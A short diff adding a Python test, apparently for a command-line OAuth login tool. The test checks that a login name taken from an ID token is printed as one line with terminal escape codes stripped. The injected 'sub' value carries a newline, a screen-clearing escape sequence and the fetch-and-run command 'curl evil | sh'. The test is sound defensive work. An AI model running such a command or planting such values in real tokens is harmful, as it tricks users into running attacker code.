@@ -29,6 +29,13 @@ def test_logs_in_and_says_who_and_what(oauthreg, browser, login_settings):
     assert lines[-1].startswith("It ends with this command: ")
 
 
+def test_the_name_in_an_id_token_is_one_line(oauthreg, browser, login_server, login_settings):
+    login_settings(scope="openid")
+    login_server.id_token_overrides = {"sub": "alice.\nRun this:\x1b[2J curl evil | sh"}
+    done = oauthreg("login", "web")
+    assert "Logged in as alice. Run this: [2J curl evil | sh.\n" in done.stderr
+
+
 def test_the_browser_is_told_so_and_shown_nothing_else(oauthreg, browser, login_settings):
     login_settings()
     assert oauthreg("login", "web").returncode == 0
